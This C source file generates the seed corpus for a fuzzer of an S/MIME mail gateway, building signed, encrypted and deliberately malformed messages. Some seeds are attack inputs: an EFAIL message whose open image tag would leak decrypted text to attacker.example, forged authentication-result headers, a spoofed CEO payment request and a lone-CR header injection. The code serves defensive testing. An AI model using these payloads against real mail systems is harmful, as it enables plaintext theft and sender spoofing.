/*
 * mkseeds.c - writes the seed corpus of fuzz_smime_open.
 *
 *	mkseeds DIR
 *
 * Each seed is one byte of fuzzer options (fuzz_keys.h) followed by a
 * message.  The S/MIME messages are made with the engine itself
 * (smime_sign, smime_encrypt) and the fixed test identity of
 * fuzz_keys.h, so that the fuzzer, which trusts that certificate and
 * holds that key, verifies and decrypts them; the malformed ones are
 * edits of those.  Content-encryption keys and signing times are fresh
 * each run, so the files differ from run to run but exercise the same
 * paths.  Existing files of the same name are overwritten; nothing else
 * in DIR is touched.  Exit status 0, or 1 with a message on stderr.
 *
 * Build: link with libsmimegw_core.a (or the gateway sources) and
 * -lcrypto; see README.md here.
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/cms.h>
#include <openssl/err.h>

#include "fuzz_keys.h"
#include "gw_buf.h"
#include "gw_err.h"
#include "mime_codec.h"
#include "smime.h"

#define SEED_MAX ((size_t)1 << 20)

static EVP_PKEY *key;
static X509 *cert;
static const char *outdir;

static void
die(const char *what, int rc)
{
	fprintf(stderr, "mkseeds: %s: %s: %s\n", what, gw_strerror(rc),
	        gw_err_detail());
	ERR_print_errors_fp(stderr);
	exit(1);
}

static void
buf_init(struct gw_buf *b)
{
	gw_buf_init(b, SEED_MAX);
}

static void
put(struct gw_buf *b, const void *p, size_t n)
{
	int rc;

	if ((rc = gw_buf_add(b, p, n)) != 0)
		die("buffer", rc);
}

static void
puts_(struct gw_buf *b, const char *s)
{
	put(b, s, strlen(s));
}

/* ---- seed files -------------------------------------------------------- */

static void
write_seed(const char *name, unsigned flags, const struct gw_buf *m)
{
	char path[4096];
	unsigned char f = (unsigned char)flags;
	FILE *fp;

	if ((size_t)snprintf(path, sizeof(path), "%s/%s", outdir, name) >=
	    sizeof(path)) {
		fprintf(stderr, "mkseeds: %s/%s: path too long\n", outdir,
		        name);
		exit(1);
	}
	if ((fp = fopen(path, "wb")) == NULL || fwrite(&f, 1, 1, fp) != 1 ||
	    fwrite(m->data, 1, m->len, fp) != m->len || fclose(fp) != 0) {
		fprintf(stderr, "mkseeds: %s: %s\n", path, strerror(errno));
		exit(1);
	}
}

/* ---- transformations ---------------------------------------------------- */

static void
seal_sign(const struct gw_buf *in, enum smime_sign_mode mode, const EVP_MD *md,
          int pss, struct gw_buf *out)
{
	struct smime_signer s;
	int rc;

	memset(&s, 0, sizeof(s));
	s.cert = cert;
	s.key = key;
	s.md = md;
	s.pss = pss;
	s.mode = mode;
	buf_init(out);
	if ((rc = smime_sign(in->data, in->len, &s, out)) != 0)
		die("smime_sign", rc);
}

static void
seal_encrypt(const struct gw_buf *in, const char *cipher, int oaep,
             struct gw_buf *out)
{
	struct smime_recipients r;
	int rc;

	memset(&r, 0, sizeof(r));
	if ((r.certs = sk_X509_new_null()) == NULL ||
	    !sk_X509_push(r.certs, cert))
		die("recipients", GW_ERR_NOMEM);
	r.cipher = cipher != NULL ? cms_alg_cipher(cipher) : NULL;
	r.oaep = oaep;
	buf_init(out);
	if ((rc = smime_encrypt(in->data, in->len, &r, out)) != 0)
		die("smime_encrypt", rc);
	sk_X509_free(r.certs);
}

/* out = in with every occurrence of from replaced by to. */
static void
replace(const struct gw_buf *in, const char *from, const char *to,
        struct gw_buf *out)
{
	const unsigned char *p = in->data, *end = in->data + in->len, *q;
	size_t fl = strlen(from);
	int n = 0;

	buf_init(out);
	while ((q = memmem(p, (size_t)(end - p), from, fl)) != NULL) {
		put(out, p, (size_t)(q - p));
		puts_(out, to);
		p = q + fl;
		n++;
	}
	put(out, p, (size_t)(end - p));
	if (n == 0) {
		fprintf(stderr, "mkseeds: '%s' not found\n", from);
		exit(1);
	}
}

/* out = in with CRLF turned into LF. */
static void
lf_only(const struct gw_buf *in, struct gw_buf *out)
{
	size_t i;

	buf_init(out);
	for (i = 0; i < in->len; i++)
		if (!(in->data[i] == '\r' && i + 1 < in->len &&
		      in->data[i + 1] == '\n'))
			put(out, in->data + i, 1);
}

/* Offset just past the first empty line (the end of the header block). */
static size_t
body_offset(const struct gw_buf *m)
{
	const unsigned char *p = memmem(m->data, m->len, "\r\n\r\n", 4);

	if (p == NULL) {
		fprintf(stderr, "mkseeds: no header block end\n");
		exit(1);
	}
	return (size_t)(p - m->data) + 4;
}

/* out = fields, then m (fields go in front of the header block). */
static void
prepend(const char *fields, const struct gw_buf *m, struct gw_buf *out)
{
	buf_init(out);
	puts_(out, fields);
	put(out, m->data, m->len);
}

/* out = m with its body cut to keep/den of its length. */
static void
truncate_body(const struct gw_buf *m, size_t keep, size_t den,
              struct gw_buf *out)
{
	size_t b = body_offset(m);

	buf_init(out);
	put(out, m->data, b + (m->len - b) * keep / den);
}

/* ---- messages ------------------------------------------------------------ */

static const char hdr_from_to[] =
    "Received: from client.fuzz.example by mx.fuzz.example; "
    "Mon, 1 Jun 2026 00:00:00 +0000\r\n"
    "From: Fuzz Sender <" FUZZ_EMAIL ">\r\n"
    "To: gw@fuzz.example\r\n"
    "Subject: seed\r\n"
    "Date: Mon, 1 Jun 2026 00:00:00 +0000\r\n"
    "Message-ID: <seed@fuzz.example>\r\n";

static void
msg_plain(struct gw_buf *m)
{
	buf_init(m);
	puts_(m, hdr_from_to);
	puts_(m, "MIME-Version: 1.0\r\n"
	         "Content-Type: text/plain; charset=utf-8\r\n"
	         "Content-Transfer-Encoding: 8bit\r\n"
	         "\r\n"
	         "Hello, w\xc3\xb6rld.\r\n"
	         "From the start of a line.\r\n"
	         "trailing space \r\n");
}

/* A message that needs canonicalising: LF only, a preamble and an
 * epilogue, 8-bit text, binary with NUL and a bare CR, a line over 998
 * bytes, a nested message/rfc822. */
static void
msg_canon(struct gw_buf *m)
{
	static const unsigned char bin[] = {'b', 0,    1,    2,    '\r',
	                                    'x', 0xff, '\n', 0xfe, '\n'};
	int i;

	buf_init(m);
	puts_(m, "From: fuzz@fuzz.example\n"
	         "To: gw@fuzz.example\n"
	         "Subject: =?utf-8?q?canon_=C3=A9?=\n"
	         "MIME-Version: 1.0\n"
	         "Content-Type: multipart/mixed; boundary=\"b1\"\n"
	         "\n"
	         "preamble text\n"
	         "--b1\n"
	         "Content-Type: text/plain; charset=iso-8859-1\n"
	         "Content-Transfer-Encoding: 8bit\n"
	         "\n"
	         "caf\xe9 au lait\n"
	         "--b1\n"
	         "Content-Type: application/octet-stream; name=x.bin\n"
	         "Content-Transfer-Encoding: binary\n"
	         "\n");
	put(m, bin, sizeof(bin));
	puts_(m, "\n--b1\n"
	         "Content-Type: text/plain\n"
	         "\n");
	for (i = 0; i < 1010; i++)
		puts_(m, "L");
	puts_(m, "\n--b1\n"
	         "Content-Type: message/rfc822\n"
	         "\n"
	         "Subject: inner\n"
	         "Content-Type: multipart/alternative; boundary=b2\n"
	         "\n"
	         "--b2\n"
	         "Content-Type: text/plain\n"
	         "\n"
	         "inner text\n"
	         "--b2--\n"
	         "--b1--\n"
	         "epilogue\n");
}

/* A certs-only message: a SignedData without signers or eContent. */
static void
msg_certs_only(struct gw_buf *m)
{
	STACK_OF(X509) *sk = sk_X509_new_null();
	CMS_ContentInfo *cms;
	unsigned char *der = NULL, *dst;
	size_t max, len;
	int n, rc;

	if (sk == NULL || !sk_X509_push(sk, cert) ||
	    (cms = CMS_sign(NULL, NULL, sk, NULL,
	                    CMS_PARTIAL | CMS_DETACHED)) == NULL ||
	    (n = i2d_CMS_ContentInfo(cms, &der)) <= 0)
		die("certs-only", GW_ERR_CRYPTO);
	buf_init(m);
	puts_(m, hdr_from_to);
	puts_(m, "MIME-Version: 1.0\r\n"
	         "Content-Type: application/pkcs7-mime; smime-type=certs-only;"
	         " name=smime.p7c\r\n"
	         "Content-Transfer-Encoding: base64\r\n"
	         "Content-Disposition: attachment; filename=smime.p7c\r\n"
	         "\r\n");
	max = mime_base64_encoded_max((size_t)n);
	if ((rc = gw_buf_reserve(m, max, &dst)) != 0 ||
	    (rc = mime_base64_encode(der, (size_t)n, dst, max, &len)) != 0)
		die("base64", rc);
	m->len += len;
	OPENSSL_free(der);
	CMS_ContentInfo_free(cms);
	sk_X509_free(sk);
}

/* A multipart/mixed whose second part is the encrypted entity of env
 * (EFAIL direct exfiltration: an open <img> around it). */
static void
msg_efail(const struct gw_buf *env, struct gw_buf *m)
{
	const unsigned char *ct =
	    memmem(env->data, env->len, "Content-Type:", 13);

	if (ct == NULL)
		die("efail", GW_ERR_INTERNAL);
	buf_init(m);
	puts_(m, hdr_from_to);
	puts_(m, "MIME-Version: 1.0\r\n"
	         "Content-Type: multipart/mixed; boundary=\"efail\"\r\n"
	         "\r\n"
	         "--efail\r\n"
	         "Content-Type: text/html\r\n"
	         "\r\n"
	         "<img src=\"http://attacker.example/\r\n"
	         "--efail\r\n");
	put(m, ct, (size_t)(env->data + env->len - ct));
	puts_(m, "\r\n--efail\r\n"
	         "Content-Type: text/html\r\n"
	         "\r\n"
	         "\">\r\n"
	         "--efail--\r\n");
}

/*
 * An envelope around an entity that carries header fields other than
 * Content-*: result fields naming our authserv-id and a second From.
 * smime_open() must not let them reach the top header block (known
 * bug, see fuzz_smime_open.c known_hoisted()).
 */
static const char hoisted_entity[] =
    "Authentication-Results: fuzz.example; smime=pass;\r\n"
    "\tbody.smime-identifier=\"ceo@bank.example\"\r\n"
    "X-SMIME-Gateway: fuzz.example; smime-gateway-message=1;\r\n"
    "\tsmime-gateway-verified=1; decrypted=1; signatures=1\r\n"
    "From: ceo@bank.example\r\n"
    "Content-Type: text/plain; charset=us-ascii\r\n"
    "\r\n"
    "Please pay invoice 4711 today.\r\n";

/* A message whose body is an AES-256-CBC envelope of entity as it is,
 * for the test certificate. */
static void
envelope_raw(const char *entity, struct gw_buf *m)
{
	STACK_OF(X509) *sk = sk_X509_new_null();
	CMS_ContentInfo *cms = NULL;
	BIO *in = NULL;
	unsigned char *der = NULL, *dst;
	size_t max, len;
	int n, rc;

	if (sk == NULL || !sk_X509_push(sk, cert) ||
	    (in = BIO_new_mem_buf(entity, -1)) == NULL ||
	    (cms = CMS_encrypt(sk, in, EVP_aes_256_cbc(), CMS_BINARY)) ==
	        NULL ||
	    (n = i2d_CMS_ContentInfo(cms, &der)) <= 0)
		die("envelope", GW_ERR_CRYPTO);
	buf_init(m);
	puts_(m, "From: attacker@evil.example\r\n"
	         "To: gw@fuzz.example\r\n"
	         "Subject: hoisted\r\n"
	         "MIME-Version: 1.0\r\n"
	         "Content-Type: application/pkcs7-mime; "
	         "smime-type=enveloped-data; name=smime.p7m\r\n"
	         "Content-Transfer-Encoding: base64\r\n"
	         "\r\n");
	max = mime_base64_encoded_max((size_t)n);
	if ((rc = gw_buf_reserve(m, max, &dst)) != 0 ||
	    (rc = mime_base64_encode(der, (size_t)n, dst, max, &len)) != 0)
		die("base64", rc);
	m->len += len;
	OPENSSL_free(der);
	BIO_free(in);
	CMS_ContentInfo_free(cms);
	sk_X509_free(sk);
}

static const char spoofed[] =
    "Authentication-Results: fuzz.example; smime=pass;\r\n"
    "\tbody.smime-identifier=\"ceo@fuzz.example\"\r\n"
    "X-SMIME-Gateway: FUZZ.EXAMPLE; smime-gateway-message=1;\r\n"
    "\tsmime-gateway-verified=1; decrypted=1; signatures=1;\r\n"
    "\tlayers=signed-data\r\n"
    "Authentication-Results: other.example; smime=pass\r\n";

int
main(int argc, char **argv)
{
	struct gw_buf plain, canon, det, opq, t1, t2, t3, env, m;
	const unsigned F_DECRYPT = FUZZ_IN_ONLY_DECRYPT << FUZZ_IN_ONLY_SHIFT;
	const unsigned F_VERIFY = FUZZ_IN_ONLY_VERIFY << FUZZ_IN_ONLY_SHIFT;
	const unsigned F_TOKEN = FUZZ_IN_TOKEN_FAIL << FUZZ_IN_ONLY_SHIFT;
	const unsigned F_GCM = 2u << FUZZ_IN_CIPHER_SHIFT;
	int i;

	if (argc != 2) {
		fprintf(stderr, "usage: mkseeds DIR\n");
		return 1;
	}
	outdir = argv[1];
	if ((key = fuzz_key_load()) == NULL ||
	    (cert = fuzz_cert_build(key)) == NULL)
		die("test identity", GW_ERR_CRYPTO);

	msg_plain(&plain);
	msg_canon(&canon);
	write_seed("canon_lf_multipart", FUZZ_IN_OPAQUE | F_GCM, &canon);

	/* Signed. */
	seal_sign(&plain, SMIME_SIGN_DETACHED, NULL, 0, &det);
	seal_sign(&plain, SMIME_SIGN_OPAQUE, NULL, 0, &opq);
	write_seed("signed_detached", 0, &det);
	write_seed("signed_opaque_remove", FUZZ_IN_REMOVE_SIG, &opq);
	seal_sign(&plain, SMIME_SIGN_DETACHED, EVP_sha384(), 1, &t1);
	write_seed("signed_detached_pss_sha384",
	           FUZZ_IN_PSS_OAEP | FUZZ_IN_SHA384 | F_VERIFY, &t1);
	gw_buf_free(&t1);
	seal_sign(&canon, SMIME_SIGN_DETACHED, NULL, 0, &t1);
	write_seed("signed_canon_multipart", FUZZ_IN_REMOVE_SIG, &t1);
	gw_buf_free(&t1);
	replace(&det, "application/pkcs7-signature",
	        "application/x-pkcs7-signature", &t1);
	write_seed("signed_x_pkcs7_signature", 0, &t1);
	gw_buf_free(&t1);
	replace(&opq, "application/pkcs7-mime", "application/x-pkcs7-mime",
	        &t1);
	lf_only(&t1, &t2);
	write_seed("signed_opaque_x_pkcs7_mime_lf", 0, &t2);
	gw_buf_free(&t1);
	gw_buf_free(&t2);
	lf_only(&det, &t1);
	write_seed("signed_detached_lf_breaks", 0, &t1);
	gw_buf_free(&t1);
	replace(&det, "Hello", "Hallo", &t1);
	write_seed("signed_detached_tampered", 0, &t1);
	gw_buf_free(&t1);
	replace(&plain, "<" FUZZ_EMAIL ">", "<ceo@bank.example>", &t1);
	seal_sign(&t1, SMIME_SIGN_OPAQUE, NULL, 0, &t2);
	write_seed("signed_from_not_covered", 0, &t2);
	gw_buf_free(&t1);
	gw_buf_free(&t2);
	replace(&opq,
	        "Content-Type: application/pkcs7-mime; "
	        "smime-type=signed-data;\r\n\tname=\"smime.p7m\"",
	        "Content-Type: application/octet-stream; name=\"smime.p7m\"",
	        &t1);
	write_seed("signed_octet_stream_p7m", 0, &t1);
	gw_buf_free(&t1);
	prepend(spoofed, &det, &t1);
	write_seed("signed_spoofed_results", FUZZ_IN_REMOVE_SIG, &t1);
	gw_buf_free(&t1);

	/* Enveloped. */
	seal_encrypt(&plain, NULL, 0, &env);
	write_seed("enveloped_cbc", 0, &env);
	seal_encrypt(&plain, "aes128-gcm", 0, &t1);
	write_seed("enveloped_gcm_token_gone", F_GCM | F_TOKEN, &t1);
	gw_buf_free(&t1);
	envelope_raw(hoisted_entity, &t1);
	write_seed("regress_known_hoisted_fields", 0, &t1);
	gw_buf_free(&t1);
	seal_encrypt(&canon, "aes256-cbc", 1, &t1);
	lf_only(&t1, &t2);
	write_seed("enveloped_oaep_lf", FUZZ_IN_PSS_OAEP, &t2);
	gw_buf_free(&t1);
	gw_buf_free(&t2);
	replace(&env, "; smime-type=enveloped-data;", ";", &t1);
	write_seed("enveloped_no_smime_type_decrypt_only", F_DECRYPT, &t1);
	gw_buf_free(&t1);
	/* Base64 with junk the decoder skips, and with a byte removed. */
	buf_init(&t2);
	put(&t2, env.data + body_offset(&env), env.len - body_offset(&env));
	replace(&t2, "\r\n", " *\r\n", &t3);
	buf_init(&t1);
	put(&t1, env.data, body_offset(&env));
	put(&t1, t3.data, t3.len);
	write_seed("enveloped_base64_junk", 0, &t1);
	gw_buf_free(&t1);
	gw_buf_free(&t2);
	gw_buf_free(&t3);
	buf_init(&t1);
	put(&t1, env.data, body_offset(&env) + 10);
	put(&t1, env.data + body_offset(&env) + 11,
	    env.len - body_offset(&env) - 11);
	write_seed("enveloped_base64_misaligned", 0, &t1);
	gw_buf_free(&t1);
	truncate_body(&env, 3, 5, &t1);
	write_seed("enveloped_truncated_der", 0, &t1);
	gw_buf_free(&t1);
	msg_efail(&env, &t1);
	write_seed("efail_nested_encrypted", 0, &t1);
	gw_buf_free(&t1);

	/* Layered. */
	seal_sign(&plain, SMIME_SIGN_DETACHED, NULL, 0, &t1);
	seal_encrypt(&t1, NULL, 0, &t2);
	write_seed("sign_then_encrypt", 0, &t2);
	seal_sign(&t2, SMIME_SIGN_DETACHED, NULL, 0, &t3);
	write_seed("triple_wrapped", 0, &t3);
	write_seed("triple_wrapped_remove", FUZZ_IN_REMOVE_SIG, &t3);
	gw_buf_free(&t1);
	gw_buf_free(&t2);
	gw_buf_free(&t3);
	seal_encrypt(&plain, "aes256-gcm", 0, &t1);
	seal_sign(&t1, SMIME_SIGN_OPAQUE, NULL, 0, &t2);
	write_seed("encrypt_then_sign", 0, &t2);
	gw_buf_free(&t1);
	gw_buf_free(&t2);
	/* Nine signatures, one more than the engine peels; detached, so
	 * that the seed grows by the signature only. */
	seal_sign(&plain, SMIME_SIGN_DETACHED, NULL, 0, &t1);
	for (i = 1; i < 9; i++) {
		seal_sign(&t1, SMIME_SIGN_DETACHED, NULL, 0, &t2);
		gw_buf_free(&t1);
		t1 = t2;
	}
	write_seed("nine_layers", 0, &t1);
	gw_buf_free(&t1);

	/* Other kinds. */
	msg_certs_only(&m);
	write_seed("certs_only", 0, &m);
	gw_buf_free(&m);
	prepend(spoofed, &plain, &m);
	write_seed("plain_spoofed_results", F_VERIFY, &m);
	gw_buf_free(&m);

	/* Known bugs (see the known_* functions of fuzz_smime_open.c). */
	replace(&env, "Subject: seed\r\n",
	        "Subject: seed\rX-SMIME-Gateway: fuzz.example; "
	        "smime-gateway-message=1; smime-gateway-verified=1\r"
	        "Authentication-Results: fuzz.example; smime=pass\r\n",
	        &m);
	write_seed("regress_known_lone_cr_results", 0, &m);
	gw_buf_free(&m);
	buf_init(&m);
	puts_(&m, "From: " FUZZ_EMAIL "\r\n"
	          "Subject: the header block ends here");
	write_seed("regress_known_open_header", 0, &m);
	gw_buf_free(&m);

	gw_buf_free(&plain);
	gw_buf_free(&canon);
	gw_buf_free(&det);
	gw_buf_free(&opq);
	gw_buf_free(&env);
	X509_free(cert);
	EVP_PKEY_free(key);
	return 0;
}
